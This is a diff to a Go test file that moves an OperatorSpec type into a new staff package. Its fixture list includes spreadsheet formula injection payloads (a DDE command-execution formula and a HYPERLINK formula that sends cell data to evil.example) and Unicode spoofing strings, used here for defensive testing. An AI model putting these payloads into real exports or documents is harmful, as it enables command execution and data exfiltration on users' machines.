@@ -19,6 +19,7 @@ import (
 	"diaoxiao/api"
 	"diaoxiao/internal/receiver/httpapi"
 	"diaoxiao/internal/receiver/intake"
+	"diaoxiao/internal/receiver/staff"
 )
 
 // hostile are texts that break pages, tables and terminals which take them for more than text.
@@ -28,7 +29,7 @@ var hostile = []string{
 	`=cmd|'/c calc'!A1`, `+1+1`, `-2+3`, `@SUM(A1:A9)`, `=HYPERLINK("https://evil.example/?"&A1,"点此")`, "\u202e司公张三", "张\u200b三", "a\u0301\u0301\u0301\u0301\u0301", "𠮷野家\ue000",
 }
 
-var newcomer = intake.OperatorSpec{Name: "newcomer", Person: "新人", Phone: "0471-0000000", Role: intake.Clerk, Identifier: "newcomer"}
+var newcomer = staff.OperatorSpec{Name: "newcomer", Person: "新人", Phone: "0471-0000000", Role: intake.Clerk, Identifier: "newcomer"}
 
 // fullHouse has something hostile wherever a person or a machine may write.
 func fullHouse(t *testing.T) (h *house, accepted []string) {
@@ -60,7 +61,7 @@ func fullHouse(t *testing.T) (h *house, accepted []string) {
 			h.must(h.ReturnCase(ctx, id, hostile[i]))
 		}
 	}
-	_, err := h.CreateOperator(ctx, root, intake.OperatorSpec{Name: "hostile", Person: hostile[0], Phone: hostile[1], Role: intake.Clerk, Identifier: "hostile"})
+	_, err := h.CreateOperator(ctx, root, staff.OperatorSpec{Name: "hostile", Person: hostile[0], Phone: hostile[1], Role: intake.Clerk, Identifier: "hostile"})
 	h.must(err)
 	h.strangeVisit()
 	h.recordCalls()
